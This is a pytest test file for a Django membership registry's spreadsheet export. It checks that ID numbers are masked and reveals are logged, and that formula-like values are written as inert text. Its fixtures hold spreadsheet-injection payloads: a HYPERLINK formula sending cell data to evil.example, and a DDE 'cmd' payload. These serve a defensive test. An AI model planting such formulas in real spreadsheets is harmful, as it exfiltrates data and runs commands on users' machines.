"""Issue 7, exports: numbers masked unless full numbers are asked for by someone who may reveal
them, each member written in full then logged (defect 4); every text written as a text cell,
never a live formula, in the export and in the template's lists (defect 10)."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from dangbo.accounts.models import Role
from dangbo.members.importing.columns import HEADERS, SHEET_LISTS, SHEET_MEMBERS
from dangbo.members.importing.views import SESSION_KEY
from dangbo.members.models import SensitiveReveal
from dangbo.organizations.models import Department, Organization

from .conftest import db_fingerprint

CARD = HEADERS.index("Số thẻ đảng viên")
CITIZEN = HEADERS.index("Số CCCD")


@pytest.fixture(autouse=True)
def import_dir(tmp_path, settings):
    settings.IMPORT_DIR = tmp_path / "imports"
    return settings.IMPORT_DIR


def _sheet(response, name: str = SHEET_MEMBERS):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))[name]


def _rows(response) -> dict[str, tuple]:
    return {r[0]: r for r in _sheet(response).iter_rows(min_row=2, values_only=True)}


# ---- defect 4 ---------------------------------------------------------------------------------
def test_export_masks_the_numbers_by_default_and_logs_nothing(client, site):
    a1 = site.members["a1"]
    a1.citizen_id = "001075000111"
    a1.save()
    client.force_login(site.users["office"])  # may edit, so may reveal — but did not ask
    rows = _rows(client.get(reverse("members:export")))
    assert rows[a1.full_name][CARD] == "•••••001"
    assert rows[a1.full_name][CITIZEN] == "•••••••••111"
    assert not SensitiveReveal.objects.exists()


def test_full_export_logs_one_reveal_per_member_and_field(client, site, settings):
    settings.DANGBO_TRUSTED_PROXIES = ["127.0.0.1"]
    a1, b1 = site.members["a1"], site.members["b1"]
    a1.citizen_id = "001075000111"
    a1.save()
    office = site.users["office"]
    client.force_login(office)
    response = client.get(
        reverse("members:export"), {"full": "1"},
        REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="192.168.5.20",
    )  # fmt: skip
    rows = _rows(response)
    assert (rows[a1.full_name][CARD], rows[a1.full_name][CITIZEN]) == ("11110001", "001075000111")
    assert rows[b1.full_name][CARD] == "11110002"
    logged = sorted(
        SensitiveReveal.objects.values_list("member_id", "field", "channel", "user", "ip_address")
    )
    assert logged == sorted([
        (a1.pk, "card_number", "export", office.pk, "192.168.5.20"),
        (a1.pk, "citizen_id", "export", office.pk, "192.168.5.20"),
        (b1.pk, "card_number", "export", office.pk, "192.168.5.20"),
    ])  # fmt: skip


def test_full_export_is_refused_to_a_reader(client, site):
    client.force_login(site.users["reader"])
    assert client.get(reverse("members:export"), {"full": "1"}).status_code == 403
    assert not SensitiveReveal.objects.exists()


def test_full_export_writes_in_full_only_what_the_actor_may_edit(client, site):
    """An office of hospital A who also reads the superior's tree."""
    office = site.users["office"]
    superior = Organization.objects.get(code="SYT")
    Role.objects.create(user=office, kind="superior_reader", organization=superior)
    client.force_login(office)
    rows = _rows(client.get(reverse("members:export"), {"full": "1"}))
    other = site.members["other1"]
    assert rows[site.members["a1"].full_name][CARD] == "11110001"
    assert (rows[other.full_name][CARD], rows[other.full_name][CITIZEN]) == (
        "•••••001", "•••••••••345",
    )  # fmt: skip
    assert other.pk not in set(SensitiveReveal.objects.values_list("member_id", flat=True))
    assert SensitiveReveal.objects.count() == 2  # a1 and b1, card numbers


# ---- defect 10 --------------------------------------------------------------------------------
FORMULAS = {
    "job_title": '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")',
    "home_town": "=1+1",
    "professional_title": "@SUM(1,2)",
    "military_rank": "+1-1",
}


def test_export_writes_formulas_as_text_and_reimports_unchanged(client, site):
    a1 = site.members["a1"]
    for name, value in FORMULAS.items():
        setattr(a1, name, value)
    a1.save()
    client.force_login(site.users["office"])
    response = client.get(reverse("members:export"), {"full": "1"})
    content = b"".join(response.streaming_content)
    ws = load_workbook(io.BytesIO(content))[SHEET_MEMBERS]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == a1.full_name)
    for cell in row:
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
    a1.refresh_from_db()
    assert {n: getattr(a1, n) for n in FORMULAS} == FORMULAS  # the model keeps them verbatim
    values = {c.value for c in row}
    assert set(FORMULAS.values()) <= values
    before = db_fingerprint()
    page = client.post(
        reverse("members:import"), {"file": SimpleUploadedFile("dang-vien.xlsx", content)}
    )
    html = page.content.decode()
    assert 'id="count-same">2<' in html and "không đổi" in html
    client.post(reverse("members:import_confirm"), {"token": client.session[SESSION_KEY][-1]})
    assert db_fingerprint() == before


def test_template_lists_write_names_as_text(client, site):
    site.cell_a.name = "=cmd|' /C calc'!A0"
    site.cell_a.save()
    Department.objects.create(organization=site.hospital, name="=SUM(A1:A9)")
    client.force_login(site.users["office"])
    ws = _sheet(client.get(reverse("members:import_template")), SHEET_LISTS)
    texts = {
        cell.value: cell.data_type
        for row in ws.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, str)
    }
    assert texts["=cmd|' /C calc'!A0"] == "s"
    assert texts["=SUM(A1:A9)"] == "s"
    assert set(texts.values()) == {"s"}


def test_the_masked_export_reimports_unchanged_and_keeps_the_stored_numbers(client, site):
    """A masked number ("•••••001") in a file keeps the stored one: the office re-imports its
    own everyday (masked) export without erasing card or citizen-ID numbers."""
    a1 = site.members["a1"]
    a1.citizen_id = "001075000111"
    a1.save()
    client.force_login(site.users["office"])
    content = b"".join(client.get(reverse("members:export")).streaming_content)
    before = db_fingerprint()
    page = client.post(
        reverse("members:import"), {"file": SimpleUploadedFile("dang-vien.xlsx", content)}
    )
    html = page.content.decode()
    assert 'id="count-same">2<' in html, html[:3000]
    client.post(reverse("members:import_confirm"), {"token": client.session[SESSION_KEY][-1]})
    assert db_fingerprint() == before
    a1.refresh_from_db()
    assert (a1.card_number, a1.citizen_id) == ("11110001", "001075000111")
